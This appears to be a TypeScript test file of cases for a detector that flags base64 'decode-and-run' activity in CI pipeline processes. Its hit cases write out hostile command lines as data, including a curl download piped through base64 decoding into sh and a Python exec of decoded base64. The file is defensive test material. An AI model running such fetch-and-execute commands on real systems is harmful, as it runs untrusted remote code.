// Cases of decode-and-run.
import { activityAt, type DetectorCase } from '../../services/core/detector-case.ts';

const AT = Date.UTC(2026, 2, 3, 14);

function started(commandLine: string | undefined, executable = '/usr/bin/bash') {
  return activityAt(
    AT,
    'process',
    { action: 'start' },
    {
      source: 'tetragon',
      vcs: { repository: { name: 'example/app' } },
      cicd: { pipeline: { name: 'ci', task: { name: 'test' } }, worker: { name: 'runner 7' } },
      process: { executable, ...(commandLine !== undefined && { command_line: commandLine }) },
    },
  );
}

function encoded(text: string): string {
  return Buffer.from(`${text}\n`.padEnd(160, 'x')).toString('base64');
}

export const cases: readonly DetectorCase[] = [
  {
    name: 'Base64 goes into a shell',
    kind: 'hit',
    history: [],
    activity: started('bash -c "curl -s https://example.net/x | base64 -d | sh"'),
    expected: 'medium',
  },
  {
    name: 'A long literal that is a script is decoded into a file',
    kind: 'hit',
    history: [],
    activity: started(`bash -c "echo ${encoded('#!/bin/sh')} | base64 -d > run.sh"`),
    expected: 'medium',
  },
  {
    name: 'A script evaluates what it decodes',
    kind: 'hit',
    history: [],
    activity: started('python3 -c import base64;exec(base64.b64decode(data))', '/usr/bin/python3'),
    expected: 'medium',
  },
  {
    name: 'What is decoded is the argument of a shell',
    kind: 'hit',
    history: [],
    activity: started('bash -c "$(printf %s "$X" | base64 -d)"'),
    expected: 'medium',
  },
  {
    name: 'A long literal that is a certificate is decoded into a file',
    kind: 'near-miss',
    history: [],
    activity: started(`bash -c "echo ${encoded('certificate of nobody')} | base64 -d > ca.pem"`),
    expected: null,
  },
  {
    name: 'What was decoded is compared',
    kind: 'near-miss',
    history: [],
    activity: started('sh -c "base64 -d digest.txt | shasum -c"'),
    expected: null,
  },
  {
    name: 'A variable is decoded into a file, as for a cluster’s configuration',
    kind: 'near-miss',
    history: [],
    activity: started('bash -c "echo $CONFIG | base64 -d > config.yaml"'),
    expected: null,
  },
  {
    name: 'The first thing that is ever seen',
    kind: 'cold-start',
    history: [],
    activity: started('sh -c "base64 --decode payload | bash"'),
    expected: 'medium',
  },
  {
    name: 'A process without a command line',
    kind: 'malformed',
    history: [],
    activity: started(undefined),
    expected: null,
  },
];
